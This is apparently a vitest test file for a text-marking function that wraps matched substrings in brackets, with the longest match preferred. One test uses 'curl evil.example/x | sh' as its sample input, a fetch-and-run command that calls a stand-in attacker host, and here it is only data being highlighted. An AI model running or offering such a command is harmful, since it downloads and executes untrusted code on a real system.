import { expect, test } from 'vitest';
import { piecesOf } from './marks';

const words = (text: string, marks: string[]) =>
  piecesOf(text, marks).map((piece) => (piece.marked ? `[${piece.text}]` : piece.text));

test('marks every place, the longest first', () => {
  expect(words('curl evil.example/x | sh', ['evil.example', 'evil.example/x'])).toEqual([
    'curl ',
    '[evil.example/x]',
    ' | sh',
  ]);
  expect(words('a b a', ['a'])).toEqual(['[a]', ' b ', '[a]']);
});

test('loses nothing, and marks nothing without a reason', () => {
  expect(words('plain', ['', 'x'])).toEqual(['plain']);
  expect(words('', ['x'])).toEqual([]);
  expect(words('xx', ['x']).join('')).toBe('[x][x]');
});
